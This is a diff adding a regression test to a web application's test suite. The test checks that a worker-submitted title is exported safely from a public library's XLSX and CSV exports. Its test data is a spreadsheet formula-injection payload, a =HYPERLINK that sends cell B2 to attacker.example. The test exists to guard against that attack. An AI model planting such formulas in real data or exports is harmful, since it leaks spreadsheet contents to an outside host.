@@ -295,3 +295,16 @@ def test_a_record_is_light_on_a_phone_without_an_account(client, factory):
     css = client.get(re.findall(r'href="(/static/css/app.css[^"]*)"', page)[0])
     assert '<script type="module"' not in page
     assert len(response.data) + len(css.data) < 30_000
+
+
+def test_an_anonymous_title_is_never_a_formula_in_the_library_exports(app, factory, client):
+    """A worker's title reaches the public library's exports (review finding 6)."""
+    title = '=HYPERLINK("http://attacker.example/?x="&B2,"Xem chi tiết")'
+    factory.initiative(title=title, code="SK-2025-009")
+    sheet = load_workbook(io.BytesIO(client.get("/library/export.xlsx").data)).active
+    (cell,) = [cell for row in sheet.iter_rows() for cell in row if cell.value == title]
+    assert cell.data_type == "s"
+    table = list(
+        csv.reader(io.StringIO(client.get("/library/export.csv").data.decode("utf-8-sig")))
+    )
+    assert table[1][1] == "'" + title
